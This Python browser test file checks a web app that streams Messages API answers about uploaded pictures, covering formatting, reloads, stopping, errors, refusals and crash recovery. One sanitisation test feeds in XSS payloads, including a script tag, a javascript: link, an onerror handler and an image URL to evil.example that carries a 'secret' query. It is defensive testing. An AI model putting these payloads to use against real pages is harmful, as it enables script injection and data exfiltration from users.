"""The same against a server that speaks the Messages API, kind and unkind."""

import os
import signal

import pytest
from playwright.sync_api import expect

from tests.support.messages_api import Answer, Cut, Held, HttpError, Refusal
from tests.support.pages import analyse, answer, ask, turns, wait_until_settled

pytestmark = pytest.mark.browser

MARKDOWN = """## Sales

| Year | Sales |
|---|--:|
| 2024 | 12 |
| 2025 | **15** |

They *rose*:

- by a quarter
- in `every` region

```python
print(15 / 12)
```
"""


@pytest.fixture(autouse=True)
def _nothing_was_refused(api):
    yield
    assert not api.refusals


def test_the_answer_is_formatted_as_it_comes_and_the_same_after_a_reload(
    connected, api, quiet_page, pictures
):
    page = quiet_page
    api.script(Answer(MARKDOWN, words_per_second=200))
    analyse(page, connected.url, pictures, "Read the numbers.")
    wait_until_settled(page)
    streamed = answer(page).inner_html()
    assert answer(page).locator("table tbody tr").count() == 2
    expect(answer(page).locator("strong")).to_have_text("15")
    expect(answer(page).locator("code.language-python")).to_contain_text("print")
    page.reload()
    assert _squeezed(answer(page).inner_html()) == _squeezed(streamed)


def _squeezed(html: str) -> str:
    return " ".join(html.split())


def test_the_model_is_sent_labelled_pictures_before_the_words(
    connected, api, quiet_page, pictures
):
    analyse(quiet_page, connected.url, pictures, "Compare them.")
    wait_until_settled(quiet_page)
    asked = api.requests[-1]
    assert [image.media_type for image in asked.images] == ["image/png", "image/jpeg"]
    assert [image.size for image in asked.images] == [(1200, 800), (640, 480)]
    assert asked.question.endswith("Compare them.")


def test_words_reach_the_page_one_by_one_and_a_reload_in_the_middle_goes_on(
    connected, api, quiet_page, pictures
):
    page = quiet_page
    held = Held("Sales rose from twelve to fifteen.")
    api.script(held)
    analyse(page, connected.url, pictures[:1], "And?")
    assert held.wait_until_open(10)
    held.release(2)
    expect(answer(page)).to_have_text("Sales rose")
    page.reload()
    expect(answer(page)).to_have_text("Sales rose")
    held.release(1)
    expect(answer(page)).to_have_text("Sales rose from")
    held.finish()
    wait_until_settled(page)
    expect(answer(page)).to_have_text("Sales rose from twelve to fifteen.")


def test_stop_closes_the_connection_to_the_model_and_keeps_the_words(
    connected, api, quiet_page, pictures
):
    page = quiet_page
    held = Held("Sales rose and rose and rose.")
    api.script(held)
    analyse(page, connected.url, pictures[:1], "And?")
    assert held.wait_until_open(10)
    held.release(2)
    expect(answer(page)).to_have_text("Sales rose")
    page.get_by_role("button", name="Stop").click()
    assert held.wait_until_closed_by_client(2)
    wait_until_settled(page)
    expect(answer(page)).to_have_text("Sales rose")
    expect(page.get_by_role("button", name="Retry")).to_be_visible()


def test_a_failure_says_who_can_mend_it_and_retry_answers(connected, api, quiet_page, pictures):
    page = quiet_page
    api.script(HttpError(401, "authentication_error", "invalid key"))
    analyse(page, connected.url, pictures[:1], "And?")
    expect(page.get_by_text("ANTHROPIC_API_KEY")).to_be_visible()
    api.script(Answer("Now it works."))
    page.get_by_role("button", name="Retry").click()
    expect(answer(page)).to_have_text("Now it works.")
    wait_until_settled(page)


def test_a_connection_cut_in_the_middle_keeps_what_came_and_offers_retry(
    connected, api, quiet_page, pictures
):
    page = quiet_page
    api.script(Cut("One two three four five six seven.", after_words=3))
    analyse(page, connected.url, pictures[:1], "And?")
    expect(page.get_by_role("button", name="Retry")).to_be_visible()
    expect(answer(page)).to_contain_text("One two three")


def test_a_refusal_is_a_neutral_notice_and_is_not_replayed(connected, api, quiet_page, pictures):
    page = quiet_page
    api.script(Refusal("It would identify a person."), Answer("A chart."))
    analyse(page, connected.url, pictures[:1], "Who is it?")
    expect(page.get_by_text("declined to answer")).to_be_visible()
    wait_until_settled(page)
    ask(page, "Then describe the picture.")
    expect(turns(page)).to_have_count(2)
    expect(answer(page)).to_have_text("A chart.")
    wait_until_settled(page)
    roles = [message["role"] for message in api.requests[-1].json["messages"]]
    assert roles == ["user"]
    assert len(api.requests[-1].images) == 1


def test_an_answer_cannot_bring_script_or_pictures_from_elsewhere_into_the_page(
    connected, api, quiet_page, pictures
):
    page = quiet_page
    asked_for: list[str] = []
    page.on("request", lambda request: asked_for.append(request.url))
    api.script(
        Answer(
            "<script>document.title='gone'</script> ![x](https://evil.example/p.png?q=secret) "
            "[click](javascript:alert(1)) <img src=x onerror=alert(1)>"
        )
    )
    analyse(page, connected.url, pictures[:1], "And?")
    wait_until_settled(page)
    assert answer(page).locator("script, img, a[href^=javascript]").count() == 0
    assert "gone" not in page.title()
    assert all(url.startswith(connected.url) for url in asked_for if not url.startswith("blob:"))


def test_a_killed_worker_costs_a_delay_and_no_word(connected, api, quiet_page, pictures):
    page = quiet_page
    held = Held("One two three four.")
    api.script(held, Answer("One two three four."))
    analyse(page, connected.url, pictures[:1], "Count.")
    assert held.wait_until_open(10)
    held.release(2)
    expect(answer(page)).to_have_text("One two")
    os.kill(connected.worker(), signal.SIGKILL)
    expect(answer(page)).to_have_text("One two three four.", timeout=30_000)
    wait_until_settled(page)
    expect(answer(page)).to_have_text("One two three four.")


def test_a_killed_web_process_comes_back_and_the_page_goes_on(
    connected, api, quiet_page, pictures
):
    page = quiet_page
    held = Held("One two three four.")
    api.script(held)
    analyse(page, connected.url, pictures[:1], "Count.")
    assert held.wait_until_open(10)
    held.release(2)
    expect(answer(page)).to_have_text("One two")
    os.kill(connected.web(), signal.SIGKILL)
    held.finish()
    expect(answer(page)).to_have_text("One two three four.", timeout=30_000)
    wait_until_settled(page)


def test_everything_killed_in_the_middle_is_finished_by_the_next_start(tmp_path, api, pictures):
    from tests.support.installation import Installation

    held = Held("One two three four.")
    api.script(held, Answer("One two three four."))
    site = Installation(tmp_path / "data", ANTHROPIC_BASE_URL=api.url)
    site.start()
    image = site.upload("sales.png", pictures[0].read_bytes())["id"]
    asked = site.call("POST", "conversations", {"images": [image], "instruction": "Count."})
    turn = asked["turns"][0]["id"]
    assert held.wait_until_open(10)
    held.release(2)
    site.kill()
    assert held.wait_until_closed_by_client(5)
    site.start()
    settled = site.settled(turn)
    site.stop()
    assert settled["state"] == "answered"
    assert settled["answer"] == "One two three four."
    assert settled["attempt"] == 2
